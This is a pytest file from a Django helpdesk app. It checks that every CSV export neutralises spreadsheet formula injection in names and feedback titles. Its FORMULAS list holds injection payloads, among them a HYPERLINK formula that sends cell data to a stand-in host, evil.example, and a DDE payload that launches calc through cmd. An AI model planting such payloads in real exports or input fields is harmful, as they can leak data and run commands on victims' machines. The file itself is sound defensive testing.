"""CSV injection: names people typed reach every CSV export as text, never as formulas.

Team, category, organisation, agent and feedback names are set to spreadsheet formulas
(the way a customer's words quoted in a feedback title can be), then every CSV export
in the export list is downloaded: no cell may start with `=`, `+`, `-`, `@`, tab or CR
unless it is a plain number.
"""
from __future__ import annotations

import csv
import io

import pytest

from casework import services as cw
from casework.models import FeedbackItem
from helpdesk.csv_export import safe_cell
from helpdesk.models import Organization, Team, User
from tickets.models import Category

from .kwargs import build_url
from .test_authz_matrix import _client
from .test_leaks_mail_exports import CSV, EXPORTS

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and safe_cell(cell) != cell


def test_safe_cell_keeps_numbers_and_quotes_formulas():
    assert safe_cell("-12.5") == "-12.5" and safe_cell(3) == 3
    assert all(safe_cell(f) == "'" + f for f in FORMULAS)
    assert safe_cell("plain =1") == "plain =1"


@pytest.fixture
def formula_names(world):
    def pick(i: int) -> str:
        return FORMULAS[i % len(FORMULAS)] + f" #{i}"
    for i, row in enumerate(Team.objects.all()):
        Team.objects.filter(pk=row.pk).update(name=pick(i))
    for i, row in enumerate(Category.objects.all()):
        Category.objects.filter(pk=row.pk).update(name=pick(i + 1))
    for i, row in enumerate(Organization.objects.all()):
        Organization.objects.filter(pk=row.pk).update(name=pick(i + 2))
    for i, row in enumerate(User.objects.all()):
        User.objects.filter(pk=row.pk).update(first_name=pick(i + 3), last_name="")
    for i, row in enumerate(FeedbackItem.objects.all()):
        FeedbackItem.objects.filter(pk=row.pk).update(title=pick(i + 4))
    cw.generate_voc_report()
    return world


CSV_EXPORTS = sorted(name for name, export in EXPORTS.items() if export.query == CSV)


@pytest.mark.parametrize("name", CSV_EXPORTS)
def test_no_export_writes_a_formula(formula_names, name):
    world = formula_names
    response = _client(world, "admin").get(build_url(name, world), CSV)
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode()))
             for cell in row]
    assert not [c for c in cells if _dangerous(c)], name
    typed = [c for c in cells if any(f.strip()[:8] in c for f in FORMULAS)]
    assert typed or name in NAMELESS, f"{name}: the test names did not reach the export"


# Exports whose rows carry no typed name in the security world (it has no resolved or
# technical tickets); the voice-of-customer export is covered by the test below.
NAMELESS = {"casework:dashboard", "casework:voc_detail", "metrics:manager", "metrics:mine",
            "metrics:team"}


def test_voice_of_customer_export_quotes_feedback_titles(world):
    """The report's snapshot holds feedback titles as customers wrote them."""
    from casework.models import VocReport

    report = VocReport.objects.get(pk=world.ids["voc"])
    report.data["new_feedback"] = [{"title": f, "kind": "bug", "mentions": 2}
                                   for f in FORMULAS]
    report.data["at_risk"] = [{"organization": "=1+1", "signal": "churn"}]
    report.save()
    response = _client(world, "admin").get(build_url("casework:voc_detail", world), CSV)
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    titles = [row[1] for row in rows if row[0] == "new feedback"]
    assert titles == ["'" + f for f in FORMULAS]
    assert ["at-risk account", "'=1+1", "churn", "", "", ""] in rows
